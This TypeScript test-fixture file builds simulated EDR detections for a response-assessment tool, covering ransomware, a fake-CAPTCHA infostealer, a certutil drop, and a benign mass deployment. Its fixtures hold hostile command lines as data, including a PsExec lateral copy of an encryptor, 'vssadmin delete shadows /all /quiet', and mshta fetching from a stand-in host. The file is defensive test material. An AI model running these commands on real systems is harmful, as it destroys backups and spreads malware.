// The acceptance stories as detections in the generic source's JSON, and what tests need to assess them.
import type * as z from "zod";
import type { AssessmentInput, ComputerView } from "../core/assessment-types.ts";
import { Detection } from "../core/detection.ts";
import { type Finding, findingOf } from "../core/finding.ts";
import { ResponsePolicy } from "../core/policy.ts";

import { at, enc, type GenericJson, numbered, SHA1, sha1, system, upd } from "./story-facts.ts";

export { COMPUTER, type GenericJson, SHA1 } from "./story-facts.ts";
export { g2 } from "./story-g2.ts";

/** Ransomware, hands on keyboard, on two computers. `day` as in `2024-06-03`; times are Japan's. */
export const d1 = (day = "2024-06-03"): GenericJson[] => [
  {
    id: "d1-1",
    rule: { id: "B0101", name: "Office application started a system binary proxy" },
    severity: "high",
    outcome: "allowed",
    techniques: ["T1566.001", "T1204.002", "T1218.011"],
    occurredAt: `${day}T02:11:04+09:00`,
    computer: at("PC-KEIRI07"),
    account: "CORP\\keiri07",
    process: {
      pid: 4120,
      name: "rundll32.exe",
      image: system("rundll32.exe"),
      parent: { pid: 3988, name: "winword.exe" },
    },
  },
  {
    id: "d1-2",
    rule: { id: "B0202", name: "Remote service tool copied a file to another computer" },
    severity: "high",
    outcome: "allowed",
    techniques: ["T1021.002", "T1570"],
    occurredAt: `${day}T02:19:40+09:00`,
    computer: at("PC-KEIRI07"),
    account: "CORP\\svc-backup",
    process: {
      pid: 5104,
      name: "psexec.exe",
      commandLine: "psexec.exe \\\\SV-FILE01 -u CORP\\svc-backup -s -c enc.exe",
      image: system("psexec.exe"),
      parent: { pid: 4120, name: "rundll32.exe" },
    },
    executable: { ...enc, path: "C:\\Users\\keiri07\\enc.exe" },
  },
  {
    id: "d1-3",
    rule: { id: "B0203", name: "Remote service execution" },
    severity: "high",
    outcome: "allowed",
    techniques: ["T1021.002", "T1569.002", "T1570"],
    occurredAt: `${day}T02:19:41+09:00`,
    computer: at("SV-FILE01"),
    account: "CORP\\svc-backup",
    process: { pid: 812, name: "PSEXESVC.exe", image: system("PSEXESVC.exe") },
    executable: enc,
  },
  {
    id: "d1-4",
    rule: { id: "B0301", name: "Shadow copies deleted" },
    severity: "critical",
    outcome: "allowed",
    techniques: ["T1490"],
    occurredAt: `${day}T02:20:12+09:00`,
    computer: at("SV-FILE01"),
    account: "CORP\\svc-backup",
    process: {
      pid: 1440,
      name: "vssadmin.exe",
      commandLine: "vssadmin.exe delete shadows /all /quiet",
      image: system("vssadmin.exe"),
    },
  },
  {
    id: "d1-5",
    rule: { id: "B0302", name: "Filecoder behaviour, partially blocked" },
    severity: "critical",
    outcome: "allowed",
    confidence: "high",
    techniques: ["T1486"],
    occurredAt: `${day}T02:20:15+09:00`,
    computer: at("SV-FILE01"),
    account: "CORP\\svc-backup",
    process: { pid: 1502, name: "enc.exe", image: enc, parent: { pid: 812, name: "PSEXESVC.exe" } },
    executable: enc,
  },
];

/** Variant c of D1: the same file on one more computer. */
export const d1Third = (computer = { id: "9d0a7c5e-2b1f-4a57-9a3e-0a1b2c3d4e06", name: "PC-EIGYO11" }): GenericJson[] =>
  d1()
    .slice(4)
    .map((detection) => ({
      ...detection,
      id: "d1-6",
      occurredAt: "2024-06-03T02:40:00+09:00",
      computer,
      process: { pid: 2210, name: "enc.exe", image: enc },
    }));

/** Infostealer from a fake CAPTCHA: ran for 40 seconds on one computer. */
export const d3 = (day = "2024-06-10"): GenericJson[] => {
  const computer = at("PC-SOUMU03");
  const account = "CORP\\soumu03";
  return [
    {
      id: "d3-1",
      rule: { id: "B0401", name: "Mshta started with a remote address" },
      severity: "medium",
      outcome: "allowed",
      techniques: ["T1204.004", "T1218.005"],
      occurredAt: `${day}T10:04:10+09:00`,
      computer,
      account,
      process: {
        pid: 7012,
        name: "mshta.exe",
        commandLine: "mshta.exe https://captcha.example/verify",
        image: system("mshta.exe"),
      },
    },
    {
      id: "d3-2",
      rule: { id: "B0402", name: "PowerShell started by mshta" },
      severity: "medium",
      outcome: "allowed",
      techniques: ["T1059.001"],
      occurredAt: `${day}T10:04:14+09:00`,
      computer,
      account,
      process: {
        pid: 7044,
        name: "powershell.exe",
        image: system("powershell.exe"),
        parent: { pid: 7012, name: "mshta.exe" },
      },
    },
    {
      id: "d3-3",
      rule: { id: "B0403", name: "Browser password store read" },
      severity: "high",
      outcome: "allowed",
      techniques: ["T1555.003"],
      occurredAt: `${day}T10:04:30+09:00`,
      computer,
      account,
      process: {
        pid: 7102,
        name: "upd.exe",
        startedAt: `${day}T10:04:20+09:00`,
        image: upd,
        parent: { pid: 7044, name: "powershell.exe" },
      },
      executable: upd,
    },
  ];
};

/** The guide's Certutil, as a sender with outcomes tells it. */
export const n1 = (): GenericJson[] => [
  {
    id: "n1-1",
    rule: { id: "A0313", name: "Certutilが不審な実行モジュールをドロップしました" },
    severity: "medium",
    outcome: "blocked",
    techniques: ["T1105", "T1140"],
    occurredAt: "2024-05-24T16:50:51+09:00",
    computer: at("test1-VM"),
    account: "test1-vm\\eset",
    process: {
      pid: 7488,
      name: "certutil.exe",
      startedAt: "2024-05-24T16:49:32+09:00",
      image: system("certutil.exe"),
    },
    executable: { name: "a.exe", path: "C:\\Users\\eset\\a.exe", sha1: sha1("dropped"), signature: "untrusted" },
  },
];

/** The IT department's roll-out: `count` computers within ten minutes, one signed agent. */
export const n2 = (count = 180): GenericJson[] =>
  Array.from({ length: count }, (_, index) => ({
    id: `n2-${index}`,
    rule: { id: "B0203", name: "Remote service execution" },
    severity: index % 2 === 0 ? ("high" as const) : ("medium" as const),
    outcome: "allowed" as const,
    techniques: ["T1021.002", "T1569.002", "T1570"],
    occurredAt: new Date(Date.parse("2024-06-12T09:00:00+09:00") + Math.floor((index * 600_000) / count)).toISOString(),
    computer: numbered(index + 1),
    account: "CORP\\deploy",
    process: {
      pid: 3000 + index,
      name: "PSEXESVC.exe",
      image: system("PSEXESVC.exe"),
      parent: { pid: 700, name: "services.exe" },
    },
    executable: {
      name: "asset-agent.exe",
      path: "C:\\Windows\\Temp\\asset-agent.exe",
      sha1: SHA1.agent,
      signature: "trusted" as const,
      signer: "Asset Management K.K.",
    },
  }));

/** The twin of N2 that must isolate: the same spread, an unsigned encryptor. */
export const n2Twin = (count = 180): GenericJson[] =>
  n2(count).map((detection, index) => ({
    ...detection,
    id: `n2t-${index}`,
    rule: { id: "B0302", name: "Filecoder behaviour" },
    severity: "critical" as const,
    techniques: ["T1486"],
    process: { pid: 3000 + index, name: "enc.exe", image: enc },
    executable: enc,
  }));

export const toFinding = ({ id, ...facts }: GenericJson): Finding =>
  findingOf(Detection.parse({ ...facts, identity: id, product: "generic" }));

/** An input that assesses these detections: every computer may be acted on, but for what `views` says by computer name. */
export function inputOf(
  detections: GenericJson[],
  more: {
    policy?: z.input<typeof ResponsePolicy>;
    views?: Record<string, Partial<ComputerView>>;
    fleetSize?: number;
    at?: string;
  } = {},
): AssessmentInput {
  const names = new Map(detections.map(({ computer }) => [computer.id, computer.name]));
  return {
    findings: detections.map(toFinding),
    policy: ResponsePolicy.parse(more.policy ?? {}),
    computers: [...names].map(([computerId, name]) => ({
      computerId,
      name,
      exempt: "no",
      supports: ["kill", "remove", "isolate", "release"],
      ...more.views?.[name],
    })),
    fleetSize: more.fleetSize ?? 200,
    at: more.at ?? "2024-06-15T00:00:00Z",
  };
}
